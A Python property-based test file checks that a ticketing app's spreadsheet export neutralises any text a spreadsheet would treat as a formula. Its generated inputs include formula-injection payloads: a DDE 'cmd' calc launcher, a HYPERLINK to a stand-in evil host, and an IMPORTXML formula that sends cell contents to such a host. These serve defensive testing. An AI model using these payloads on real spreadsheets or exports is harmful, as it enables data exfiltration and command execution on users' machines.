"""No text, whatever it is, becomes a formula in an export (SPEC L11, B9): a property, tried on generated text.

Every cell is written as text; any text a spreadsheet would take for a formula is neutralised with a
leading apostrophe, except phone numbers made only of digits, spaces, brackets, dashes and a leading +.
"""

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tickets.exports import FORMULA_STARTS, PHONE_SHAPE, safe_phone, safe_text, write_workbook

# Text as people (and attackers) type it: any characters, and often a formula-looking start.
texts = st.one_of(
    st.text(max_size=60),
    st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "=="]),
              st.text(max_size=40)),
    st.sampled_from(['=HYPERLINK("http://evil.example","click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
                     "=1+1", '=IMPORTXML(CONCAT("http://evil/?", A1), "//a")']),
)


@pytest.mark.spec("L11")
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(texts, min_size=1, max_size=8))
def test_no_exported_cell_is_ever_a_formula(tmp_path, values):
    path = tmp_path / "export.xlsx"
    write_workbook(path, ["Title", "Phone"], [20, 20], [[safe_text(value), safe_phone(value)] for value in values])

    sheet = openpyxl.load_workbook(path).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                # Only a phone number may start so: digits, spaces, brackets and dashes call no
                # function and name no cell, so even a spreadsheet that evaluated it could run nothing.
                assert cell.column == 2 and PHONE_SHAPE.fullmatch(cell.value), cell.value


@pytest.mark.spec("L11")
@given(value=texts)
def test_neutralising_changes_only_what_a_spreadsheet_would_run(value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cleaned = ILLEGAL_CHARACTERS_RE.sub("", value)
    expected = None if not value else ("'" + cleaned if cleaned.startswith(FORMULA_STARTS) else cleaned)
    assert safe_text(value) == expected
